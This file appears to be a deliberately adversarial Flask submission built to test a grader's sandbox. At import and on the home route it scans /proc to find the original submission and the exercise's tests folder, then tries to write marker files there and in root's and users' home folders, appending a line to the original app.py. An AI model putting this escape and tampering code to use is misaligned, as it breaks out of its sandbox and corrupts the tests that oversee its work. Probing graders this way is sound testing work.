"""The solution, which at import and in GET / tries to write files outside its sandbox.

Every place it tries is worked out when it runs, never written down here; each attempt is
printed (app output) with its result. The places:

- the folder above its own (`../escaped`), a fixed name in /tmp
  (`/tmp/flask-grader-escape-<when>`), `$HOME/escaped`, the home folder of every login user
  and of root (`<home>/escaped`), `/work/escaped`;
- the folder it was submitted from (`<original>/escaped`, and `app.py` there overwritten),
  and the exercise's tests folder (`<tests>/escaped`), both searched for in the command lines
  and working directories of every process it can see in /proc.

All it writes is a line naming this attack. The honest score is the solution's: 100.
"""
import os
import pwd
import sys
from pathlib import Path

from flask import Flask, abort, jsonify, render_template_string

HERE = Path(__file__).resolve().parent
MARK = "flask-grader adversarial submission writes-outside was here\n"


def _visible_places():
    """Absolute folders named by any process we can see: its cwd and its command-line arguments."""
    places = set()
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return places
    for pid in pids[:5000]:
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            places.add(cwd)
        except OSError:
            cwd = "/"
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read(1 << 16).split(b"\0")
        except OSError:
            continue
        for arg in args:
            text = arg.decode(errors="replace")
            if text and not text.startswith("-"):
                places.add(os.path.normpath(os.path.join(cwd, text)))
    return places


def _targets(when):
    me = (HERE / "app.py").read_bytes()
    targets = [HERE.parent / "escaped", Path(f"/tmp/flask-grader-escape-{when}"), Path("/work/escaped")]
    if os.environ.get("HOME"):
        targets.append(Path(os.environ["HOME"]) / "escaped")
    try:
        targets += [Path(u.pw_dir) / "escaped" for u in pwd.getpwall() if u.pw_uid == 0 or u.pw_uid >= 1000]
    except Exception:  # noqa: BLE001
        pass
    for place in sorted(_visible_places()):
        folder = Path(place)
        try:
            if folder == HERE or not folder.is_dir():
                continue
            if (folder / "app.py").is_file() and (folder / "app.py").read_bytes() == me:
                targets += [folder / "escaped", folder / "app.py"]  # the original submission
            elif folder.name == "tests" and folder.parent.parent.name == "exercises":
                targets.append(folder / "escaped")  # an exercise's tests
        except OSError:
            continue
    return list(dict.fromkeys(targets))


def escape(when):
    for target in _targets(when):
        try:
            if target.name == "app.py":
                with open(target, "a") as handle:  # append: the original stays a working app
                    handle.write("# " + MARK)
            else:
                target.write_text(MARK)
            outcome = "WRITTEN"
        except Exception as exc:  # noqa: BLE001
            outcome = f"refused ({type(exc).__name__})"
        print(f"writes-outside [{when}]: {target}: {outcome}", file=sys.stderr)


escape("import")

app = Flask(__name__)

# Every page shares this layout. Only trusted, hard-coded snippets are glued in
# between HEAD and FOOT; anything that comes from the request is passed to
# Jinja as a variable, so autoescaping protects it.
HEAD = """<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>{{ title }}</title>
</head>
<body>
"""
FOOT = """
</body>
</html>
"""


def page(title, content, **context):
    """Render the `content` snippet inside the shared layout."""
    return render_template_string(HEAD + content + FOOT, title=title, **context)


@app.get("/")
def home():
    escape("route")
    return page(
        "Mission Control",
        '<h1>Mission Control HQ</h1>\n<p><a href="/status">System status</a></p>',
    )


@app.get("/status")
def status():
    return jsonify(status="nominal", mission="hello-mission")


@app.get("/probes/<int:n>")
def probe(n):
    if n < 1:  # probes are numbered from 1
        abort(404)
    return page(f"Probe {n} - Mission Control", "<h2>Probe {{ n }}</h2>", n=n)


@app.get("/greet/<name>")
def greet(name):
    return page(
        "Greetings - Mission Control",
        '<p class="greeting">Hello, {{ name }}!</p>',
        name=name,
    )


@app.errorhandler(404)
def not_found(error):
    return page("Lost in space - Mission Control", "<h1>Lost in space</h1>"), 404
